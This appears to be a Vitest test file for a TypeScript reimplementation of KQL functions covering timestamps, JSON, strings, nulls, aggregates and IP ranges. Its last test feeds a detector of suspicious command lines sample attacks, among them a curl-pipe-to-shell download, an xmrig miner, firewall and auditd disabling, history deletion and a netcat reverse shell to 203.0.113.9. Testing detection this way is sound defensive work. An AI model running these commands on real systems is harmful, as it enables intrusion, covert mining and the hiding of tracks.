import { describe, expect, it } from 'vitest';
import { argMax, greatest, groupBy, least, oldSetOf, setOf } from './grouping.ts';
import { bin, instant, instantText, ticksPerMinute, timespan } from './instants.ts';
import { isPrivateIpv4 } from './ipv4.ts';
import { at, extracted, parseJson, toBool, toInstant, toInt, toText } from './json.ts';
import { and, atMost, equal, lessThan, or } from './logic.ts';
import { familiesOf } from './steps/suspiciousCommands.ts';
import { containsText, endsWithText, firstText, hasTerm, inTexts } from './strings.ts';
import { Undecided } from './undecided.ts';

describe('times', () => {
  it('counts ticks of 100 ns since the year 1', () => {
    // The .NET documentation gives 31,241,376,000,000,000 ticks for the first of January of the year 100.
    expect(instant('0100-01-01')).toBe(31_241_376_000_000_000n);
    expect(instant('1970-01-01T00:00:00Z')).toBe(621_355_968_000_000_000n);
    expect(instant('1970-01-01T00:00:00.0000001Z')).toBe(621_355_968_000_000_001n);
    expect(instant('1970-01-01T00:00:00.5Z')).toBe(621_355_968_005_000_000n);
  });

  it('reads a text without a zone as UTC and moves one with an offset', () => {
    const noon = instant('2019-04-18T12:00:00Z');
    expect(noon).not.toBeNull();
    for (const text of ['2019-04-18T12:00:00', '2019-04-18 12:00:00', '2019-04-18 12:00', '04/18/2019 12:00:00']) {
      expect(instant(text), text).toBe(noon);
    }
    expect(instant('2019-04-18T14:00:00+02:00')).toBe(noon);
    expect(instant('2019-04-18T07:30:00-04:30')).toBe(noon);
  });

  it('gives null for what is no time and refuses to guess', () => {
    expect(instant('')).toBeNull();
    expect(instant('soon')).toBeNull();
    expect(instant('2019-02-29')).toBeNull();
    expect(() => instant('18.04.2019')).toThrow(Undecided);
  });

  it('writes instants, reads timespans and bins minutes', () => {
    const ticks = instant('2019-04-18T12:04:31.1234567Z') ?? 0n;
    expect(instantText(ticks)).toBe('2019-04-18T12:04:31.1234567Z');
    expect(instantText(bin(ticks, ticksPerMinute))).toBe('2019-04-18T12:04:00.0000000Z');
    expect(timespan('1.02:03:04.5')).toBe(937_845_000_000n);
    expect(timespan('-00:00:00.0000001')).toBe(-1n);
    expect(timespan('12:00')).toBeNull();
  });
});

describe('JSON', () => {
  const d = parseJson('{"a":"22","b":22,"c":true,"d":null,"e":{"f":[1,"x"]},"g":"80,443","h":"*"}');

  it('turns dynamics into text', () => {
    expect(['a', 'b', 'c', 'd', 'e', 'none'].map((name) => toText(at(d, name)))).toEqual([
      '22',
      '22',
      'true',
      '',
      '{"f":[1,"x"]}',
      '',
    ]);
  });

  it('takes whole numbers from texts and numbers, and null from the rest', () => {
    expect(['a', 'b', 'd', 'g', 'h', 'none'].map((name) => toInt(at(d, name)))).toEqual([
      22n,
      22n,
      null,
      null,
      null,
      null,
    ]);
    expect(toInt(' 1024-2048')).toBeNull();
    expect(() => toInt('2.5')).toThrow(Undecided);
    expect(() => toInt('4294967296')).toThrow(Undecided);
  });

  it('reads what is no JSON as a text without properties', () => {
    expect(parseJson('{"a":')).toBe('{"a":');
    expect(at(parseJson('{"a":'), 'a')).toBeNull();
    expect(extracted('{"a":', 'a')).toBeNull();
    expect(extracted('{"a":"x"}', 'a')).toBe('x');
  });

  it('reads booleans and times', () => {
    expect([true, 'False', 1, 0, 'yes', null].map(toBool)).toEqual([true, false, true, false, null, null]);
    expect(toInstant(null)).toBeNull();
    expect(toInstant('1970-01-01')).toBe(621_355_968_000_000_000n);
  });
});

describe('strings', () => {
  it('ignores case where KQL does', () => {
    expect(containsText('x-Pump-07-y', 'pump-07')).toBe(true);
    expect(endsWithText('/providers/Microsoft.Devices/IotHubs/Plant', '/iothubs/plant')).toBe(true);
    expect(endsWithText('/iothubs/plant-2', '/iothubs/plant')).toBe(false);
    expect(inTexts('SUDO', ['root', 'sudo'])).toBe(true);
  });

  it('has: whole terms only', () => {
    expect(hasTerm('{"RemoteAddress":"203.0.113.9"}', '203.0.113.9')).toBe(true);
    expect(hasTerm('{"RemoteAddress":"203.0.113.95"}', '203.0.113.9')).toBe(false);
    expect(hasTerm('/tmp/.x/xmrig', 'x')).toBe(true);
    expect(hasTerm('/tmp/xmrig', 'x')).toBe(false);
    expect(hasTerm('North America', 'america')).toBe(true);
  });

  it('coalesce passes empty strings over', () => {
    expect(firstText('', 'b', 'c')).toBe('b');
    expect(firstText('', '')).toBe('');
  });
});

describe('null', () => {
  it('follows the table of the documentation', () => {
    expect([and(true, null), and(false, null), or(true, null), or(false, null)]).toEqual([null, false, true, null]);
    expect([equal(null, null), equal(1n, null), equal(1n, 1n)]).toEqual([null, false, true]);
    expect([atMost(null, 1n), atMost(1n, 1n), lessThan(1n, 1n)]).toEqual([null, true, false]);
  });
});

describe('aggregates', () => {
  it('pass nulls over', () => {
    expect([least([null, 3n, 1n]), greatest([null, 3n, 1n]), least([null]), greatest([])]).toEqual([
      1n,
      3n,
      null,
      null,
    ]);
  });

  it('group nulls together and tell values of different types apart', () => {
    const groups = groupBy([null, 1n, null, '1n', ''], (value) => [value]);
    expect(groups.map(({ rows }) => rows.length)).toEqual([2, 1, 1, 1]);
  });

  it('cap sets', () => {
    expect(setOf(['a', 'b', 'a', ''])).toEqual({ kind: 'set', of: ['a', 'b', ''], size: 3 });
    expect(oldSetOf(Array.from({ length: 200 }, (_, index) => `${index}`)).size).toBe(128);
  });

  it('arg_max keeps every row of a tie, and a row where all are null', () => {
    const rows = [
      { at: 1n, name: 'a' },
      { at: 2n, name: 'b' },
      { at: null, name: 'c' },
      { at: 2n, name: 'd' },
    ];
    expect(argMax(rows, (row) => row.at).map(({ name }) => name)).toEqual(['b', 'd']);
    expect(argMax([{ at: null }], (row) => row.at)).toEqual([{ at: null }]);
  });
});

describe('addresses and commands', () => {
  it('knows the private ranges', () => {
    expect(['10.1.2.3', '172.16.0.1', '172.31.9.9', '192.168.1.1'].map(isPrivateIpv4)).toEqual([
      true,
      true,
      true,
      true,
    ]);
    expect(['172.32.0.1', '192.169.0.1', '127.0.0.1'].map(isPrivateIpv4)).toEqual([false, false, false]);
    expect(['', '?', '::1', '2001:db8::1', '10.1.2.300'].map(isPrivateIpv4)).toEqual([null, null, null, null, null]);
  });

  it('files command lines under families', () => {
    expect(familiesOf('curl -s http://203.0.113.9/x.sh | sh')).toEqual(['download then run']);
    expect(familiesOf('/tmp/.x/xmrig -o stratum+tcp://203.0.113.9:4444')).toEqual(['temporary directory', 'miner']);
    expect(familiesOf('iptables -F')).toEqual(['firewall disabled']);
    expect(familiesOf('netsh advfirewall set allprofiles state off')).toEqual(['firewall disabled']);
    expect(familiesOf('systemctl stop auditd')).toEqual(['auditd tampering']);
    expect(familiesOf('rm -f /home/pi/.bash_history')).toEqual(['log or history removal']);
    expect(familiesOf('useradd -m svc')).toEqual(['account change']);
    expect(familiesOf('Useradd -m svc')).toEqual([]);
    expect(familiesOf('ls /opt/tmp/')).toEqual([]);
    expect(familiesOf('nc 203.0.113.9 4444 -e /bin/sh')).toEqual(['reverse shell']);
    expect(familiesOf('nc 203.0.113.9 \n4444 -e /bin/sh')).toEqual([]);
  });
});
